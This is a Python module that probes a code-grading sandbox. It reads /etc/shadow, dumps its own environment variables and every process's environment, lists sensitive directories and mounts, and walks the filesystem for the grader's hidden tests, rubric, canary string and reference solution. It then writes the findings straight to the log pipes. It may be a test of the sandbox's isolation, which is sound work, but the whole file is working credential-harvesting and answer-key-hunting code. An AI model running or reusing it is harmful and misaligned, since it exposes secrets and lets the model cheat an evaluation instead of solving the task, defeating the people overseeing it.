import os

RESULTS = []
# Built in parts: this source must not hold what it looks for.
CANARY = "djgrade-" + "canary-" + "5b1e0c7d"
REFERENCE = "# Filled by the views' " + 'annotate(Count("reviews")).'
NAMES = {"djgrade.db", "canary.txt", "exercise.yaml", "rubric.md", "test_hidden_correctness.py"}
SKIP = ("/proc", "/sys", "/dev", "/work")

def say(text):
    # Straight to the pipes pytest saved (the sandbox's own stdout and
    # stderr), so the lines reach the log whatever pytest prints.
    data = (text + "\n").encode()
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + name).startswith("pipe:"):
                os.write(int(name), data)
        except OSError:
            pass


def escaped(what):
    return "ESC" + "APED:" + what


def read(path, n=4000):
    try:
        with open(path, "rb") as f:
            return f.read(n).decode("utf-8", "replace")
    except OSError as e:
        return "<%s>" % e


def walk():
    # Every file of the container outside the workspace: by name, and by
    # content for what is small and outside the distribution's /usr.
    out = []
    seen = 0
    for root, dirs, files in os.walk("/"):
        if root.startswith(SKIP):
            dirs[:] = []
            continue
        for name in files:
            path = os.path.join(root, name)
            seen += 1
            if name in NAMES:
                out.append(escaped("found " + path))
            if root.startswith("/usr") or os.path.islink(path):
                continue
            try:
                if os.path.getsize(path) > (256 << 10):
                    continue
            except OSError:
                continue
            text = read(path, 256 << 10)
            if CANARY in text:
                out.append(escaped("canary in " + path))
            if REFERENCE in text:
                out.append(escaped("reference solution in " + path))
    out.append("PROBED:walked %d files outside /work" % seen)
    return out


def probe():
    out = ["PROBED:/etc/shadow " + read("/etc/shadow", 300)]
    out.append("PROBED:environ " + " ".join("%s=%s" % kv for kv in sorted(os.environ.items())))
    for pid in sorted(os.listdir("/proc")):
        if pid.isdigit():
            out.append("PROBED:/proc/%s/environ %s" % (pid, read("/proc/%s/environ" % pid, 2000).replace("\0", " ")))
    out.append("PROBED:mounts\n" + read("/proc/self/mountinfo"))
    for path in ("/data", "/var/lib/djgrade", "/root", "/home", "/host", "/mnt"):
        try:
            out.append("PROBED:ls %s %s" % (path, os.listdir(path)))
        except OSError as e:
            out.append("PROBED:ls %s %s" % (path, e))
    out.extend(walk())
    return out


def attack():
    if not RESULTS:
        RESULTS.extend(probe())
        say("\n".join(RESULTS))
    raise RuntimeError("host probed")
